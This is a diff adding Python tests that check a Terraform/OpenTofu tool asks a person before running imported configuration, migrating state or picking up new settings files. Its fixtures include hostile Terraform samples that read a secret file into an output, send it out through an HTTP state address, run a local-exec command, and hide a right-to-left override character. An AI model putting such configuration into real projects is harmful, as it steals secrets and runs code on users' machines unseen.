@@ -192,14 +192,83 @@ def nobody(engine):
             need(client.code_of("run_terraform", command=command) == "UNTRUSTED_PROJECT", command)
 
 
+EVIL = {
+    "a file in an output": 'output "k" {{ value = base64encode(file("{secret}")) }}',
+    "a state on the network": 'data "terraform_remote_state" "x" {{\n  backend = "http"\n'
+                              '  config  = {{ address = "http://127.0.0.1:1/${{filebase64("{secret}")}}" }}\n}}',
+    "a program": 'resource "terraform_data" "job" {{\n  for_each = toset(["q"])\n  provisioner "local-exec" {{\n'
+                 '    command = "touch {marker}"\n  }}\n}}',
+    "a module": 'module "m" {{ source = "./sub" }}',
+}
+
+
+def brought_by_a_client(engine):
+    """Configuration that a client had imported and that no type covers is written as it was: in a project that was made
+    here, too, a person sees it, and says yes, before the engine reads it."""
+    for number, (what, text) in enumerate(EVIL.items()):
+        with Asked(engine) as place:
+            marker, secret = os.path.join(place.folder, "PWNED"), os.path.join(place.folder, "secret")
+            with open(secret, "w", encoding="utf-8") as file:
+                file.write("a-key-of-the-person")
+            client = place.client
+            client.use("new_project", name=f"evil{number}", directoryPath=place.folder)
+            source = text.format(marker=marker, secret=secret) + "\n# \u202e\n"
+            client.use("import_terraform", source="config", files={"main.tf": source})
+            for command in ("init", "validate", "plan", "apply"):
+                client.approved = 0
+                result, asked = place.run(command)
+                need(result == "CONSENT_DECLINED" and asked == 1, f"{what}: {command}: asked {asked} times, {result}")
+                need(all("| " + line in client.questions[0] for line in source.splitlines()[:-1]), client.questions[0])
+                need("\u202e" not in client.questions[0], "what turns text")
+            need(not os.path.exists(marker), what)
+            if what == "a program":
+                client.approved = 1
+                need(place.run("plan")[1] == 1 and place.run("plan")[1] == 0, "asked once for these bytes")
+                client.use("import_terraform", source="config", files={"main.tf": 'output "more" { value = file("/x") }'})
+                client.approved = 0
+                result, asked = place.run("plan")
+                need(result == "CONSENT_DECLINED" and asked == 1, f"other bytes: {asked} {result}")
+
+
+def state_elsewhere(engine):
+    """The state goes over another one only when a person says so."""
+    with Asked(engine) as place:
+        place.begin("moved")
+        place.client.use("set_project_config", config={"backend": {"type": "http", "config": {
+            "address": "http://127.0.0.1:1/state"}}})
+        place.client.approved = 0
+        result, asked = place.run("init", migrateState=True)
+        need(result == "CONSENT_DECLINED" and asked == 1, f"asked {asked} times, {result}")
+        need("127.0.0.1:1/state" in place.client.questions[0], place.client.questions[0])
+
+
+def settings_of_the_engine(engine):
+    """All files that it reads as its settings, also those that appear while a person thinks."""
+    for name in (".terraformrc", ".terraform.d/z.tfrc", ".terraform.d/a.tfrc.json", ".config/opentofu/tofurc"):
+        with Asked(engine) as place:
+            place.begin("settings")
+            place.client.add("builtin/core/data", label="beta", properties={"input": "two"})
+            target = os.path.join(place.env["HOME"], name)
+
+            def appears():
+                os.makedirs(os.path.dirname(target), exist_ok=True)
+                with open(target, "w", encoding="utf-8") as file:
+                    file.write("{}" if name.endswith("json") else "# nothing\n")
+            result, asked = place.run("apply", appears)
+            need(asked == 2 and result == "CONSENT_DECLINED", f"{name}: {asked} {result}")
+
+
 def main():
     engines = {"the fake engine": FAKE}
     engines |= {name: shutil.which(name) for name in ("terraform", "tofu") if shutil.which(name)}
     for name, engine in engines.items():
         for title, part in (("ST-143 types", types), ("ST-085 remains", remains),
                             ("ST-085 the bytes that were trusted", bytes_that_were_trusted),
+                            ("ST-144 what a client has imported", brought_by_a_client),
+                            ("9.6 the state goes elsewhere", state_elsewhere),
+                            ("ST-081 settings of the engine", settings_of_the_engine),
                             ("ST-143 nobody to ask", nobody)):
-            if engine == FAKE or part in (types, bytes_that_were_trusted):
+            if engine == FAKE or part in (types, bytes_that_were_trusted, brought_by_a_client):
                 with Step("studio-trust", f"{title} ({name})"):
                     part(engine)
     return 1 if check.failures else 0
